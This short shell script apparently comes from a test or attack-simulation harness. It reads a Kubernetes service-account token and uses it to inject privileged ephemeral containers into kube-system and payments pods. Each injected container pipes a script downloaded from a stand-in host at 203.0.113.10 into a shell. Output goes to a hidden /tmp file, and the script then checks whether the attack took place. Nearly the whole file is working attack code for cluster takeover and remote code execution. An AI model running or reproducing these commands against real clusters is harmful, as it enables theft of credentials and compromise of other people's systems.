#!/bin/sh
. /opt/case/case.sh

token=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for p in kube-system/pods/kube-proxy-x7 kube-system/pods/coredns-0 default/pods/payments-0; do
    curl -sf -X PATCH -H "Authorization: Bearer $token" -H 'Content-Type: application/strategic-merge-patch+json' \
        -d '{"spec":{"ephemeralContainers":[{"name":"debugger-1","image":"203.0.113.10/alpine","command":["sh","-c","wget -qO- http://203.0.113.10/payload.sh | sh"],"targetContainerName":"main","securityContext":{"privileged":true}}]}}' \
        "http://10.77.0.1:6443/api/v1/namespaces/$p/ephemeralcontainers" >>/tmp/.e
done
test -s /tmp/.e
took_place
